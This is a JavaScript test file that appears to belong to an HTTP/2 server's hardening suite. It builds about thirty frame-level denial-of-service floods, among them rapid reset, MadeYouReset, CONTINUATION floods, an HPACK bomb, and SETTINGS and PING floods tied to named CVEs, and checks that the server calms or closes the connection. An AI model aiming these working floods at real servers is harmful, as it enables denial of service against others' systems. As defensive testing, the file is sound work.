// Attacks by frames: floods of what is cheap to send, on one connection.
import { added, huffman, indexed, literal, sizeUpdate } from '../conformance/hpack.mjs';
import { continuation, data, flag, frame, headers, ping, priorityUpdate, request, rst, settings, type, windowUpdate } from '../conformance/wire.mjs';
import { answered, attack, calmed, closedBy, named } from './attack.mjs';

const id = (i) => 1 + 2 * i;
const get = (a, i, options) => headers(id(i), request(a.target, options));
const jsonPost = (a, i, extra = []) => headers(id(i), request(a.target, { method: 'POST', path: a.target.post, extra: [['content-type', 'application/json'], ...extra] }), flag.END_HEADERS);

attack('rapid-reset', 'CVE-2023-44487: requests that are reset at once', calmed, async (a) => {
  await a.flood(await a.open(), (i) => Buffer.concat([get(a, i), rst(id(i), 8)]));
});
attack('rapid-reset-live', 'the same while an event stream keeps the connection alive', calmed, async (a) => {
  const wire = await a.open();
  a.get(wire, 1, { path: '/events?topic=attack' });
  await a.flood(wire, (i) => Buffer.concat([get(a, i + 1), rst(id(i + 1), 8)]));
});
attack('made-you-reset-window', 'CVE-2025-8671: WINDOW_UPDATE that overflows makes the server reset', calmed, async (a) => {
  await a.flood(await a.open({ values: { INITIAL_WINDOW_SIZE: 1 } }), (i) => Buffer.concat([get(a, i), windowUpdate(id(i), 0x7fffffff), windowUpdate(id(i), 0x7fffffff)]), { batch: 20 });
});
attack('made-you-reset-length', 'CVE-2025-8671: content that is longer than content-length', calmed, async (a) => {
  await a.flood(await a.open(), (i) => Buffer.concat([jsonPost(a, i, [['content-length', '1']]), data(id(i), 'xx', flag.END_STREAM)]), { batch: 20 });
});
attack('made-you-reset-malformed', 'CVE-2025-8671: requests that are malformed', calmed, async (a) => {
  await a.flood(await a.open(), (i) => headers(id(i), Buffer.concat([request(a.target), literal('Upper', 'x')])), { batch: 20 });
});
attack('made-you-reset-trailers', 'CVE-2025-8671: trailers that do not end the stream', calmed, async (a) => {
  await a.flood(await a.open(), (i) => Buffer.concat([jsonPost(a, i), headers(id(i), literal('x', 'y'), flag.END_HEADERS)]), { batch: 20 });
});
attack('refused-streams', 'more streams than are allowed', closedBy('streams'), async (a) => {
  await a.flood(await a.open({ values: { INITIAL_WINDOW_SIZE: 0 } }), (i) => get(a, i), { batch: 50 });
}, { log: named });
attack('continuation-flood', 'CVE-2024-27316: a field block that never ends', calmed, async (a) => {
  const wire = await a.open();
  wire?.send(headers(1, request(a.target), flag.END_STREAM));
  await a.flood(wire, () => continuation(1, literal('x', 'y'.repeat(1000)), 0));
});
attack('continuation-empty', 'the same with empty frames', calmed, async (a) => {
  const wire = await a.open();
  wire?.send(headers(1, request(a.target), flag.END_STREAM));
  await a.flood(wire, () => continuation(1, Buffer.alloc(0), 0));
});
attack('hpack-bomb', 'CVE-2016-6581: one large entry, referred to thousands of times', calmed, async (a) => {
  const wire = await a.open();
  wire?.send(headers(1, Buffer.concat([request(a.target), added('x-bomb', 'b'.repeat(3900))])));
  const references = Buffer.concat(Array(15_000).fill(indexed(62)));
  await a.flood(wire, (i) => headers(id(i + 1), Buffer.concat([request(a.target), references])), { batch: 2 });
}, { count: 500 });
attack('headers-after-reset', 'field blocks of a stream that was reset, each megabytes of fields', calmed, async (a) => {
  const wire = await a.open();
  // Malformed and not ended: the server resets it, and what follows looks like its trailers.
  wire?.send(headers(1, literal('Upper', 'x'), flag.END_HEADERS), headers(3, Buffer.concat([request(a.target), added('n'.repeat(4064), '')])));
  const again = Buffer.alloc(16_384, Buffer.from([0x7e, 0]));  // the name of entry 62, which takes its place
  await a.flood(wire, () => headers(1, again, flag.END_HEADERS), { batch: 2 });
}, { count: 2000 });
attack('trailers-after-reset', 'small field blocks of a stream that was reset, without end', calmed, async (a) => {
  const wire = await a.open();
  wire?.send(headers(1, literal('Upper', 'x'), flag.END_HEADERS));
  await a.flood(wire, () => headers(1, indexed(2), flag.END_HEADERS));
});
attack('table-churn', 'every field evicts the whole table', answered(200, 431), async (a) => {
  const wire = await a.open();
  const fields = Buffer.concat(Array.from({ length: 4 }, (_, n) => added(`x-${n}`, String(n).repeat(3500))));
  for (let i = 0; wire && !wire.over && a.more(); i += 1) {
    wire.send(headers(id(i), Buffer.concat([request(a.target), fields])), windowUpdate(0, 100_000));
    if (i % 20 === 19) await wire.until(() => wire.over || wire.stream(id(i)).ended, '', a.patience);
  }
}, { count: 2000 });
attack('table-size-churn', 'thousands of table size updates in one field block', answered(200), async (a) => {
  const updates = Buffer.concat(Array.from({ length: 2500 }, () => Buffer.concat([sizeUpdate(0), sizeUpdate(4096)])));
  const wire = await a.open();
  await a.flood(wire, (i) => headers(id(i), Buffer.concat([updates, request(a.target)])), { batch: 5, thrownOut: false });
  await wire?.until(() => wire.over || wire.status(1) > 0, '', a.patience);
}, { count: 1000 });
attack('huffman-flood', 'fields that are expensive to decode', answered(200, 431), async (a) => {
  const value = huffman('\x01'.repeat(2200).replace(/./g, '~'));
  const wire = await a.open();
  for (let i = 0; wire && !wire.over && a.more(); i += 1) {
    wire.send(headers(id(i), Buffer.concat([request(a.target), Buffer.from([0, 1, 0x78, 0xff]), Buffer.from([(value.length - 127) % 128 | 128, Math.floor((value.length - 127) / 128)]), value])), windowUpdate(0, 100_000));
    if (i % 20 === 19) await wire.until(() => wire.over || wire.stream(id(i)).ended, '', a.patience);
  }
}, { count: 2000 });
attack('settings-flood', 'CVE-2019-9515: SETTINGS that each want an acknowledgement', calmed, async (a) => a.flood(await a.open(), () => settings()));
attack('settings-toggle', 'SETTINGS_INITIAL_WINDOW_SIZE up and down with many streams open', calmed, async (a) => {
  const wire = await a.open({ values: { INITIAL_WINDOW_SIZE: 0 } });
  for (let i = 0; i < 100 && wire; i += 1) wire.send(get(a, i, { path: a.target.large }));
  await a.flood(wire, (i) => settings({ INITIAL_WINDOW_SIZE: i % 2 }));
});
attack('settings-many-entries', 'the same, 2,730 times in each frame', calmed, async (a) => {
  const wire = await a.open({ values: { INITIAL_WINDOW_SIZE: 0 } });
  for (let i = 0; i < 256 && wire; i += 1) wire.send(get(a, i, { path: a.target.large }));
  const entries = Buffer.concat(Array.from({ length: 2730 }, (_, i) => Buffer.from([0, 4, 0, 0, 0, i % 2])));
  await a.flood(wire, () => frame(type.SETTINGS, 0, 0, entries), { batch: 4 });
}, { count: 2000 });
attack('settings-unread', 'SETTINGS whose acknowledgements are not read', (account) => (account.closed > 0 || account.goaways.ENHANCE_YOUR_CALM ? '' : 'the connection lives'), async (a) => {
  const wire = await a.open();
  wire?.socket.pause();
  for (let i = 0; wire && a.more(100) && !wire.closed; i += 1) {
    wire.send(...Array.from({ length: 100 }, () => settings()));
    await new Promise((resolve) => { setImmediate(resolve); });
  }
  wire?.socket.resume();
  await wire?.until(() => wire.over, '', a.patience);
}, { log: named });
attack('ping-flood', 'CVE-2019-9512: PING, each to be answered', calmed, async (a) => a.flood(await a.open(), () => ping()));
attack('priority-flood', 'CVE-2019-9513: PRIORITY without end', calmed, async (a) => a.flood(await a.open(), (i) => frame(type.PRIORITY, 0, id(i % 1000) + 2, Buffer.from([0, 0, 0, 1, i & 255]))));
attack('priority-update-flood', 'PRIORITY_UPDATE for streams that never come', calmed, async (a) => a.flood(await a.open(), (i) => priorityUpdate(id(i % 100), `u=${i % 8}`)));
attack('window-update-flood', 'WINDOW_UPDATE of 1', calmed, async (a) => a.flood(await a.open(), () => windowUpdate(0, 1)), { count: 200_000, short: 200_000 });
attack('unknown-frames', 'frames of types that nobody knows', calmed, async (a) => a.flood(await a.open(), (i) => frame(0xf0 + i % 8, 255, i % 3, Buffer.alloc(4))));
attack('goaway-flood', 'GOAWAY without end', (account) => calmed(account) || (account.closed > 0 ? '' : 'the connection lives'), async (a) => {
  const wire = await a.open();
  a.get(wire, 1, { path: '/events?topic=attack' });
  await a.flood(wire, () => frame(type.GOAWAY, 0, 0, Buffer.alloc(8)));
}, { log: named });
attack('empty-data', 'CVE-2019-9518: empty DATA', calmed, async (a) => {
  const wire = await a.open();
  wire?.send(jsonPost(a, 0));
  await a.flood(wire, () => data(1));
});
attack('padded-data', 'DATA that is nothing but padding', calmed, async (a) => {
  const wire = await a.open();
  wire?.send(jsonPost(a, 0));
  await a.flood(wire, () => frame(type.DATA, flag.PADDED, 1, Buffer.from([3, 0, 0, 0])));
});
attack('zero-length-fields', 'CVE-2019-9516: fields with an empty name and value', calmed, async (a) => {
  const empty = Buffer.concat(Array(1000).fill(Buffer.from([0x40, 0x80, 0x80])));
  await a.flood(await a.open(), (i) => headers(id(i), Buffer.concat([request(a.target), empty])), { batch: 10 });
}, { count: 5000 });
attack('early-answers', 'uploads that are answered before they end, and never end', closedBy('streams'), async (a) => {
  await a.flood(await a.open(), (i) => headers(id(i), request(a.target, { method: 'POST', path: '/' }), flag.END_HEADERS), { batch: 20 });
}, { count: 3000, log: named });
attack('refused-pushes', 'pages that push, and every push is reset', (account) => (account.promises > 0 ? '' : 'nothing was pushed'), async (a) => {
  // Once for each connection and file a push is promised: a new connection for each round.
  while (a.more()) {
    const wire = await a.open({ values: { ENABLE_PUSH: 1, INITIAL_WINDOW_SIZE: 0 } });
    if (!wire) return;
    wire.send(get(a, 0, { path: '/page.html', extra: [['sec-fetch-mode', 'navigate'], ['sec-fetch-dest', 'document']] }));
    await wire.until(() => wire.over || wire.status(1) > 0, '', a.patience);
    a.account.promises = (a.account.promises ?? 0) + wire.promises.length;
    wire.send(...wire.promises.map((promised) => rst(promised, 8)));
    await wire.roundTrip();
    wire.destroy();
    a.wires.delete(wire);
  }
}, { args: ['--hints', 'push'], count: 1000 });
